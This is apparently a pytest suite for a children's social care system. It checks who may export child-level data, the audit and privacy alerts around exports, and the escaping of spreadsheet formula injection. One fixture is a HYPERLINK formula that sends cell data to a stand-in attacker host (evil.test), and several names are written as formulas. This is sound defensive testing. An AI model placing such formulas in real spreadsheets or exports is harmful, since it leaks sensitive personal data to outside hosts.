"""Who may export child-level data, what every export records, and spreadsheet cells that cannot run (issue 16 item 9),
through the Annex A workbook (item 5) and the SSD extract (item 8)."""

import csv
import datetime as dt
import io
import time
import zipfile

import openpyxl
import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone

from cases import policy
from cases.models import AuditEvent, CinReferral, Episode, EpisodeLead, LeadKind, Notification, PrivacyAlert, Role
from reporting.annex_a.lists import LISTS, Window
from reporting.annex_a.workbook import write_annex_a
from reporting.models import ExportRecord, ReturnRun, RunKind, RunStatus
from reporting.permissions import EXPORT
from reporting.ssd.extract import write_ssd
from reporting.tasks import build_return
from tests.factories import TeamFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.test/?d="&A1,"Open")'
CHILD_KINDS = (RunKind.ANNEX_A, RunKind.SSD)


def _referred_child(make_person, council):
    """A child named as a formula, referred to children's social care ten days ago, whose lead practitioner and team
    are named as formulas too."""
    today = timezone.localdate()
    child = make_person(first=FORMULA, last="+SUM(1,1)", dob=dt.date(2016, 4, 1))
    team = TeamFactory(agency=council, name="@SUM(A1:A9)")
    worker = UserFactory(agency=council, full_name="-2+3 cmd", roles=[Role.FHLP], teams=[team])
    episode = Episode.objects.create(person=child, opened_on=today - dt.timedelta(days=10))
    EpisodeLead.objects.create(
        episode=episode, kind=LeadKind.FHLP, user=worker, started_at=timezone.now() - dt.timedelta(days=9)
    )
    CinReferral.objects.create(
        person=child, episode=episode, referral_date=today - dt.timedelta(days=10), source_code="6"
    )
    return child, worker, team


def _cells(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_only_managers_and_performance_officers_export_child_level_data():
    assert policy.role_actions()[EXPORT] == {Role.MANAGER, Role.PERFORMANCE_OFFICER}


@pytest.mark.parametrize("role", sorted(Role.values))
@pytest.mark.parametrize("kind", CHILD_KINDS)
def test_a_role_runs_and_downloads_a_child_level_export_exactly_when_the_table_says(role, kind, client, council):
    """Starting a run, its page, its progress and its download: 404 for every role the policy table refuses."""
    allowed = role in policy.role_actions()[EXPORT]
    user = UserFactory(agency=council, roles=[role])
    owner = UserFactory(agency=council, roles=[Role.MANAGER])
    done = ReturnRun.objects.create(
        kind=kind,
        period="all" if kind == RunKind.SSD else "2025-26",
        purpose="Inspection",
        requested_by=owner,
        status=RunStatus.DONE,
        filename="f.bin",
        content_type="application/octet-stream",
        content=__import__("gzip").compress(b"x"),
        size=1,
        rows=1,
    )
    client.force_login(user)
    reports = client.get(reverse("reporting:reports"))
    start = client.post(reverse("reporting:run_start", args=[kind]), {})
    page = client.get(reverse("reporting:run", args=[done.pk]))
    status = client.get(reverse("reporting:run_status", args=[done.pk]))
    download = client.get(reverse("reporting:run_download", args=[done.pk]))
    if allowed:
        assert (reports.status_code, start.status_code) == (200, 400)
        assert (page.status_code, status.status_code, download.status_code) == (200, 200, 200)
        assert ExportRecord.objects.filter(user=user, run=done).count() == 1
    else:
        assert {start.status_code, page.status_code, status.status_code, download.status_code} == {404}
        assert reports.status_code == 404 or kind not in reports.content.decode()
        assert not ExportRecord.objects.filter(user=user).exists()


def test_running_and_downloading_annex_a_records_who_what_how_many_rows_and_why(client, make_person, council):
    manager = UserFactory(agency=council, roles=[Role.MANAGER], full_name="Mia Manager")
    _referred_child(make_person, council)
    client.force_login(manager)
    form = client.get(reverse("reporting:reports")).context["sections"]
    annex = next(s for s in form if s["builder"].kind == RunKind.ANNEX_A)
    period = annex["form"].fields["period"].initial
    response = client.post(
        reverse("reporting:run_start", args=[RunKind.ANNEX_A]),
        {f"{RunKind.ANNEX_A}-period": period, f"{RunKind.ANNEX_A}-purpose": "Ofsted ILACS inspection, week 1"},
    )
    assert response.status_code == 302, response.context["errors"]
    run = ReturnRun.objects.get(kind=RunKind.ANNEX_A)
    assert run.requested_by == manager
    run = build_return(run.pk)
    assert run.status == RunStatus.DONE, run.error
    assert run.summary["lists"]["List 3"] == 1 and run.rows >= 1
    download = client.get(reverse("reporting:run_download", args=[run.pk]))
    assert download.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    assert book.sheetnames == [f"List {n}" for n in range(1, 12)]
    record = ExportRecord.objects.get(run=run)
    assert (record.user, record.kind, record.format, record.rows, record.purpose, record.period) == (
        manager,
        RunKind.ANNEX_A,
        "xlsx",
        run.rows,
        "Ofsted ILACS inspection, week 1",
        period,
    )
    audit = AuditEvent.objects.get(verb="reporting.exported")
    assert audit.actor_id == manager.pk and audit.reason == "Ofsted ILACS inspection, week 1"


def test_a_formula_in_a_name_comes_out_as_text_in_the_annex_a_workbook(make_person, council):
    child, worker, team = _referred_child(make_person, council)
    today = timezone.localdate()
    out = io.BytesIO()
    counts = write_annex_a(out, window=Window(today - dt.timedelta(days=30), today), user=None)
    assert counts["List 3"] == 1 and counts["List 6"] == 1
    book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    cells = list(_cells(book))
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # nothing a spreadsheet would run
    referrals = list(book["List 3"].iter_rows(values_only=True))
    headings = dict(zip(referrals[0], referrals[1], strict=True))
    assert headings["Allocated Worker"] == "'-2+3 cmd"
    assert headings["Allocated Team"] == "'@SUM(A1:A9)"
    assert headings["Child Unique ID"] == child.la_child_id
    assert headings["Referral Source"] == "q) 6: Police"
    # Annex A names no child: the formula of the name is nowhere in the workbook.
    assert not [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert [annex.sheet for annex in LISTS] == book.sheetnames


def _ssd_tables(data: bytes) -> dict[str, list[dict]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {
            name.removesuffix(".csv"): list(csv.DictReader(io.TextIOWrapper(archive.open(name), encoding="utf-8")))
            for name in archive.namelist()
            if name.endswith(".csv")
        }


def test_a_formula_in_a_name_comes_out_as_text_in_the_ssd_csv(make_person, council):
    from cases.models import CaseNote

    child, worker, team = _referred_child(make_person, council)
    seen = timezone.now() - dt.timedelta(days=2)
    CaseNote.objects.create(
        person=child,
        author=worker,
        status=CaseNote.Status.FINAL,
        finalised_at=seen,
        kind=CaseNote.Kind.VISIT,
        occurred_at=seen,
        subject="Home visit",
        body="Saw the child at home.",
        child_seen=True,
        child_seen_alone=True,
    )
    out = io.BytesIO()
    write_ssd(out, user=None)
    tables = _ssd_tables(out.getvalue())
    person = next(r for r in tables["ssd_person"] if r["pers_person_id"] == child.la_child_id)
    assert person["pers_forename"] == "'" + FORMULA
    assert person["pers_surname"] == "'+SUM(1,1)"
    professional = next(r for r in tables["ssd_professionals"] if r["prof_professional_id"] == str(worker.pk))
    assert professional["prof_professional_name"] == "'-2+3 cmd"
    department = next(r for r in tables["ssd_department"] if r["dept_team_id"] == str(team.pk))
    assert department["dept_team_name"] == "'@SUM(A1:A9)"
    visit = next(r for r in tables["ssd_cin_visits"] if r["cinv_person_id"] == child.la_child_id)
    assert (visit["cinv_cin_visit_seen"], visit["cinv_cin_visit_seen_alone"]) == ("Y", "Y")
    assert visit["cinv_cin_visit_date"].startswith(timezone.localdate(seen).isoformat())
    cells = [value for rows in tables.values() for row in rows for value in row.values()]
    assert not [v for v in cells if v and v[0] in "=+-@"]  # nothing a spreadsheet would run


def test_a_restricted_child_appears_in_the_ssd_by_id_and_codes_only(make_person, council, privacy_officer):
    from cases.models import Address
    from cases.services import person_restrict

    child, _worker, _team = _referred_child(make_person, council)
    Address.objects.create(person=child, line1="1 Hidden Road", postcode="ZZ1 1ZZ")
    child.nhs_number = "9990001112"
    child.save(update_fields=["nhs_number"])
    person_restrict(person=child, actor=privacy_officer, reason="high_profile", access_users=[])
    manager = UserFactory(agency=council, roles=[Role.MANAGER])
    out = io.BytesIO()
    write_ssd(out, user=manager)
    tables = _ssd_tables(out.getvalue())
    person = next(r for r in tables["ssd_person"] if r["pers_person_id"] == child.la_child_id)
    assert (person["pers_forename"], person["pers_surname"], person["pers_common_child_id"]) == ("", "", "")
    assert person["pers_sex"] == child.sex and person["pers_dob"] == child.date_of_birth.isoformat()
    assert not [r for r in tables["ssd_address"] if r["addr_person_id"] == child.la_child_id]
    assert not [r for r in tables["ssd_linked_identifiers"] if r["link_person_id"] == child.la_child_id]
    assert [r["cine_person_id"] for r in tables["ssd_cin_episodes"]] == [child.la_child_id]


# --- export volume (battery B18): over EXPORT_ROWS_PER_HOUR rows in an hour, the second factor again and an alert ----

CONFIRM = "/accounts/two-factor/confirm/"


def _done_run(owner, *, rows: int, kind=RunKind.ANNEX_A) -> ReturnRun:
    import gzip

    return ReturnRun.objects.create(
        kind=kind,
        period="2025-26",
        purpose="Ofsted ILACS inspection",
        requested_by=owner,
        status=RunStatus.DONE,
        filename="annex-a.xlsx",
        content_type="application/octet-stream",
        content=gzip.compress(b"x"),
        size=1,
        rows=rows,
    )


def _download(client, run):
    return client.get(reverse("reporting:run_download", args=[run.pk]))


def test_exports_within_the_hours_rows_are_unchanged(client, settings, performance_officer):
    settings.EXPORT_ROWS_PER_HOUR = 100
    client.force_login(performance_officer)
    for rows in (60, 40):  # 100 in the hour: at the threshold, not over it
        assert _download(client, _done_run(performance_officer, rows=rows)).status_code == 200
    assert ExportRecord.objects.filter(user=performance_officer).count() == 2
    assert not PrivacyAlert.objects.exists()
    assert not AuditEvent.objects.filter(verb="mfa.stepped_up").exists()


def test_an_export_over_the_hours_rows_needs_the_second_factor_again_and_alerts_the_privacy_officer_once(
    client, settings, performance_officer, privacy_officer
):
    """B18: 60 rows, then an export of 50 (110 in the hour, over 100): not produced until the user proves their
    second factor again on the confirm page (a wrong code refused), one privacy alert however often it is asked for,
    naming the rows and the exports; after the step-up it downloads, and the next within 5 minutes too."""
    from tests.two_factor import code_for, device_for

    settings.EXPORT_ROWS_PER_HOUR = 100
    client.force_login(performance_officer)
    device = device_for(performance_officer)
    assert _download(client, _done_run(performance_officer, rows=60)).status_code == 200
    big = _done_run(performance_officer, rows=50)
    url = reverse("reporting:run_download", args=[big.pk])
    asked = refused = 0
    for _ in range(3):  # asked again and again without the code: never produced
        response = _download(client, big)
        asked += 1
        refused += response.status_code == 302 and response["Location"].startswith(CONFIRM + "?next=")
    assert refused == asked
    assert "for=export_volume" in response["Location"]
    assert ExportRecord.objects.filter(user=performance_officer).count() == 1
    alert = PrivacyAlert.objects.get(kind=PrivacyAlert.Kind.EXPORT_VOLUME)
    assert (alert.user, alert.details["rows"], alert.details["threshold"]) == (performance_officer, 110, 100)
    assert [e["rows"] for e in alert.details["exports"]] == [60] and alert.details["asked"]["rows"] == 50
    assert Notification.objects.filter(user=privacy_officer, kind="privacy_alert.export_volume").count() == 1
    # A wrong code on the confirm page is refused, and the export is still not produced.
    wrong = client.post(CONFIRM, {"code": "123456", "next": url, "for": "export_volume"})
    assert wrong.status_code == 200 and "The code is not right" in wrong.content.decode()
    asked += 1
    refused += _download(client, big).status_code == 302
    with time_machine.travel(time.time() + 2, tick=True):  # past the 1 s throttle of the wrong code
        right = client.post(CONFIRM, {"code": code_for(device), "next": url, "for": "export_volume"})
        assert right.status_code == 302 and right["Location"] == url
        download = client.get(url)
        assert download.status_code == 200 and b"".join(download.streaming_content) == b"x"
        # Another export within 5 minutes of the step-up: produced without asking again.
        assert _download(client, _done_run(performance_officer, rows=10)).status_code == 200
    assert ExportRecord.objects.filter(user=performance_officer).count() == 3
    with time_machine.travel(time.time() + 6 * 60, tick=True):  # the step-up is 5 minutes old: asked again
        assert _download(client, _done_run(performance_officer, rows=10)).status_code == 302
    assert PrivacyAlert.objects.filter(kind=PrivacyAlert.Kind.EXPORT_VOLUME).count() == 1  # once per user per hour
    assert AuditEvent.objects.filter(verb="mfa.stepped_up", actor_id=performance_officer.pk).count() == 1
    print(
        f"\nB18: threshold {settings.EXPORT_ROWS_PER_HOUR} rows/hour in the test (default 5,000); "
        f"{refused}/{asked} over-threshold downloads refused without the step-up; "
        f"{PrivacyAlert.objects.filter(kind='export_volume').count()} alert raised for {asked + 3} over-threshold asks"
    )

    # The privacy officer's queue names it, and its page the rows and the exports.
    client.force_login(privacy_officer)
    queue = client.get(reverse("cases:privacy_alerts")).content.decode()
    assert alert.reference in queue and "110 rows exported in an hour" in queue
    page = client.get(reverse("cases:privacy_alert", args=[alert.pk])).content.decode()
    assert "110 rows in the hour" in page and "the limit is 100 an hour" in page
    table = page.split('id="alert-exports"')[1].split("</table>")[0]
    assert table.count("Ofsted Annex A") == 2 and ">60<" in table and ">50<" in table and "asked for" in table


def test_a_second_export_volume_alert_comes_only_after_the_hour(performance_officer):
    from cases.services.breakglass import export_volume_alert

    def raise_at(when):
        return export_volume_alert(user=performance_officer, rows=6000, threshold=5000, exports=[], asked={}, now=when)

    now = timezone.now()
    first = raise_at(now)
    assert first is not None
    assert raise_at(now + dt.timedelta(minutes=59)) is None
    later = raise_at(now + dt.timedelta(minutes=61))
    assert later is not None and later.unique_key != first.unique_key


# --- formula-leading cells, as property: every one escaped in the CSV and the XLSX the FFP return writes (B18) -----
# The return's CSV and workbook writers (reporting.ffp_return.writers: the files its downloads send) given generated
# text: each example's strings (the first always formula-leading) as measures, breakdowns and warnings. The CSV is
# checked per example (hypothesis shrinks a failure); the workbook, 60 ms to write, for the same strings in batches.
# EXPORT_PROPERTY_EXAMPLES (default 1,000) runs more by hand.

# The battery's list (B18), not the code's: a character dropped from reporting.exports.FORMULA_START fails here.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_XLSX_ILLEGAL = "".join(chr(c) for c in [*range(0, 9), 11, 12, *range(14, 32), 0xFFFE, 0xFFFF])  # not in XML


def _property_examples() -> int:
    import os

    return int(os.environ.get("EXPORT_PROPERTY_EXAMPLES", "1000"))


def _formula_figures(values: list[str]):
    from reporting.ffp_return.figures import Figures, Row

    rows = [Row("Section", value, value, n) for n, value in enumerate(values)]
    return Figures(
        quarter="2025-26 Q1", first=dt.date(2025, 4, 1), last=dt.date(2025, 6, 30), rows=rows, warnings=list(values)
    )


def _escaped(out: str, value: str) -> bool:
    """The cell as written: the value behind an apostrophe if it starts like a formula, the value itself otherwise
    (XML keeps a line end inside a cell as \\n)."""
    want = f"'{value}" if value.startswith(FORMULA_START) else value
    return out == want or out.replace("\r\n", "\n").replace("\r", "\n") == want.replace("\r\n", "\n").replace(
        "\r", "\n"
    )


def test_formula_leading_text_is_escaped_in_every_csv_and_xlsx_cell():
    from hypothesis import HealthCheck, given
    from hypothesis import settings as hsettings
    from hypothesis import strategies as st

    from reporting.ffp_return.writers import write_csv, write_xlsx

    tail = st.text(st.characters(exclude_categories=("Cs",), exclude_characters=_XLSX_ILLEGAL), max_size=30)
    leading = st.builds(lambda lead, rest: lead + rest, st.sampled_from(FORMULA_START), tail)
    anything = st.one_of(leading, tail)
    seen: list[str] = []

    @hsettings(
        max_examples=_property_examples(),
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
    )
    @given(st.lists(anything, max_size=3).flatmap(lambda more: leading.map(lambda first: [first, *more])))
    def csv_cells(values):
        text = write_csv(_formula_figures(values)).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
        assert len(rows) == 2 * len(values)
        for value, row in zip(values + values, rows, strict=True):
            cell = row[3]  # the measure, or the warning's message
            assert _escaped(cell, value), (value, cell)
            assert not cell.startswith(FORMULA_START)
        seen.extend(values)

    csv_cells()
    leading_seen = [v for v in seen if v.startswith(FORMULA_START)]
    assert len(leading_seen) >= _property_examples()

    checked = 0
    for start in range(0, len(seen), 800):
        batch = seen[start : start + 800]
        book = openpyxl.load_workbook(io.BytesIO(write_xlsx(_formula_figures(batch), draft=True)))
        assert not [c.coordinate for c in _cells(book) if c.data_type == "f"]  # nothing a spreadsheet would run
        sheet = list(book["Return"].iter_rows(values_only=True))
        header = sheet.index(("Section", "Measure", "Breakdown", "Value"))
        measures = [row[1] or "" for row in sheet[header + 1 :]]
        warnings = [row[0] or "" for row in list(book["Warnings"].iter_rows(values_only=True))[1:]]
        for value, measure, warning in zip(batch, measures, warnings, strict=True):
            assert _escaped(measure, value) and _escaped(warning, value), (value, measure, warning)
            checked += value.startswith(FORMULA_START)
    assert checked == len(leading_seen)
    print(f"\nB18: {len(leading_seen)}/{len(leading_seen)} formula-leading strings escaped in CSV and XLSX")
